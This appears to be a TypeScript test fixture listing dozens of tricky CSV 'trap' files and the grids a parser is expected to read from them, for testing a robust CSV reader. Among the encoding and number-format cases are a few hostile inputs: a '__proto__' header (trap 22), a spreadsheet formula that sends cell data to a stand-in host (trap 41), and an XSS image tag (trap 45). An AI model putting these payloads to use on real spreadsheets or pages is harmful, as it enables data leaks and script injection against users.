import { utf8 } from "./bytes";

/** A tiny file and the grid it holds; `also` are further readings of single cells that lose nothing either. */
export interface TrapFile {
  readonly id: string;
  readonly bytes: Uint8Array;
  readonly header: readonly string[];
  /** Where names had to be made unique: the header as it stands in the file. */
  readonly published?: readonly string[];
  readonly rows: readonly (readonly string[])[];
  readonly also?: Readonly<Record<string, readonly string[]>>;
}

/** Each character is one byte. */
export const latin = (text: string): Uint8Array => Uint8Array.from(text, (character) => character.charCodeAt(0));

const trap = (id: string, bytes: Uint8Array | string, ...records: readonly string[]): TrapFile => ({
  id,
  bytes: typeof bytes === "string" ? utf8(bytes) : bytes,
  header: (records[0] ?? "").split("|"),
  rows: records.slice(1).map((record) => record.split("|")),
});

const COUNTED = Array.from({ length: 400 }, (_, i) => `V${i};${i}`);
const NBSP = "\u00a0";
const NARROW = "\u202f";

/** The traps of the corpus whose bytes are at hand; 07 and 37 are large and built where they are tested. */
export const TRAP_FILES: readonly TrapFile[] = [
  trap("01-leading-zero", "nis;v\n01234;5\n11001;6\n", "nis|v", "01234|5", "11001|6"),
  trap("02-decimal-comma", "geo;v\nA;1,5\nB;2,25\n", "geo|v", "A|1,5", "B|2,25"),
  trap("03-thousand-dot", "geo;inw\nA;1.234\nB;12.345\nC;950\n", "geo|inw", "A|1.234", "B|12.345", "C|950"),
  trap("04-decimal-vs-delim", "1,5;2,5\n3,5;4,5\n", "column_1|column_2", "1,5|2,5", "3,5|4,5"),
  trap("05-mixed-newline", "a,b\r\n1,2\n3,4\r\n", "a|b", "1|2", "3|4"),
  trap("06-stray-cr", "geo,code\nA,X\r\nB,X\r\n", "geo|code", "A|X", "B|X"),
  trap("08-cp1252", latin("geo;v\nLi\xe8ge;1\n"), "geo|v", "Liège|1"),
  trap("09-utf16le-nobom", latin("g\0e\0o\0;\0v\0\n\0A\0;\x001\0\n\0"), "geo|v", "A|1"),
  trap("10-macroman", latin("geo;v\nLi\x8fge;1\n"), "geo|v", "Liège|1"),
  trap("11-bom", latin("\xef\xbb\xbfgeo;v\nA;1\n"), "geo|v", "A|1"),
  trap(
    "12-one-accent-utf8",
    `geo;v\n${COUNTED.join("\n")}\nLiège;1\n`,
    "geo|v",
    ...COUNTED.map((line) => line.replace(";", "|")),
    "Liège|1",
  ),
  trap(
    "13-missing-markers",
    "geo;v\nA;12\nB;-\nC;..\nD;:\nE;n/a\nF;x\nG;\nH;0\n",
    ..."geo|v A|12 B|- C|.. D|: E|n/a F|x G| H|0".split(" "),
  ),
  trap("14-namibia", "iso;v\nNA;5\nNO;6\n", "iso|v", "NA|5", "NO|6"),
  trap("15-flags", "geo;v\nA;12 p\nB;1 234*\nC;(5)\nD;<5\n", "geo|v", "A|12 p", "B|1 234*", "C|(5)", "D|<5"),
  trap(
    "16-nbsp-thousand",
    `geo;v\nA;1${NBSP}234\nB;12${NARROW}345\nC;950\n`,
    "geo|v",
    `A|1${NBSP}234`,
    `B|12${NARROW}345`,
    "C|950",
  ),
  trap("17-unicode-minus", "geo;v\nA;−5\nB;–3\n", "geo|v", "A|−5", "B|–3"),
  trap("18-percent", "geo;v\nA;12%\nB;0,5%\n", "geo|v", "A|12%", "B|0,5%"),
  trap(
    "19-bigint",
    "id;v\n9007199254740993;1\n9007199254740992;2\n",
    ..."id|v 9007199254740993|1 9007199254740992|2".split(" "),
  ),
  trap("20-sci-code", "code;v\n1E5;1\n2E3;2\n7E10;3\n", "code|v", "1E5|1", "2E3|2", "7E10|3"),
  trap("21-excel-sci", "tel;v\n5,58199E+12;1\n", "tel|v", "5,58199E+12|1"),
  trap("22-proto-header", "__proto__,x\nevil,3\n", "__proto__|x", "evil|3"),
  trap("23-year-headers", "geo,2021,2020\nX,1,2\n", "geo|2021|2020", "X|1|2"),
  { ...trap("24-dup-headers", "geo,v,v\nA,1,2\n", "geo|v|v", "A|1|2"), header: ["geo", "v", "v_2"], published: ["geo", "v", "v"] },
  {
    ...trap("25-unclosed-quote", 'a,b\n1,"x\n2,y\n3,z\n', "a|b", '1|"x', "2|y", "3|z"),
    also: { "0,1": ["x"] },
  },
  trap("26-ragged", "a,b\n1,2,3\n4,5\n", "a|b", "1|2|3", "4|5"),
  trap("27-preamble", "Source: Office, 2023\nUnit: 1 000\n\ngeo;v\nA;1\n", "geo|v", "A|1"),
  trap("28-footer-total", "geo;v\nA;1\nB;2\nTotal;3\nSource: X\n", "geo|v", "A|1", "B|2", "Total|3"),
  trap(
    "29-two-row-header",
    "geo;2020;;2021;\n;M;F;M;F\nA;1;2;3;4\n",
    "geo|2020 / M|2020 / F|2021 / M|2021 / F",
    "A|1|2|3|4",
  ),
  trap("30-date-dmy", "d;v\n01/02/2023;1\n13/02/2023;2\n", "d|v", "01/02/2023|1", "13/02/2023|2"),
  trap("31-date-tz", "d;v\n2023-01-01T00:30:00+02:00;1\n", "d|v", "2023-01-01T00:30:00+02:00|1"),
  trap("32-bool", "v;x\nTRUE;1\n1;2\n", "v|x", "TRUE|1", "1|2"),
  trap("33-nfd", "geo;v\nLie\u0300ge;1\nLi\u00e8ge;2\n", "geo|v", "Lie\u0300ge|1", "Li\u00e8ge|2"),
  trap("34-comment-hash", "#geo,v\n#1,2\n3,4\n", "#geo|v", "#1|2", "3|4"),
  trap("35-blank-greedy", "geo,v\nA,1\n,\nB,2\n", "geo|v", "A|1", "B|2"),
  trap("36-sep-line", "sep=;\ngeo;v\nA;1\n", "geo|v", "A|1"),
  trap("38-mojibake-in-file", "geo;v\nLiÃ¨ge;1\n", "geo|v", "LiÃ¨ge|1"),
  { ...trap("39-nul", "geo,v\nA,1\x002\n", "geo|v", "A|1\x002"), also: { "0,1": ["1\ufffd2", "1 2"] } },
  trap("40-dup-keys", "geo;year;v\nA;2020;1\nA;2020;1\nA;2020;2\n", "geo|year|v", "A|2020|1", "A|2020|1", "A|2020|2"),
  trap(
    "41-formula",
    'name;v\n=HYPERLINK("http://x/?"&A1);1\n-5;2\n',
    "name|v",
    '=HYPERLINK("http://x/?"&A1)|1',
    "-5|2",
  ),
  trap("42-infinity", "a;b\nInfinity;1\n1e400;2\nNaN;3\n", "a|b", "Infinity|1", "1e400|2", "NaN|3"),
  trap("43-neg-zero-json", "v\n-0\nNaN\n", "v", "-0", "NaN"),
  trap("44-numeric-year-two-digit", "y;v\n98;1\n03;2\n", "y|v", "98|1", "03|2"),
  trap("45-html-label", "geo;v\n<img src=x onerror=alert(1)>;1\n", "geo|v", "<img src=x onerror=alert(1)>|1"),
];

export function trapBytes(id: string): Uint8Array {
  const found = TRAP_FILES.find((file) => file.id === id);
  if (!found) throw new RangeError(`no trap ${id}`);
  return found.bytes;
}
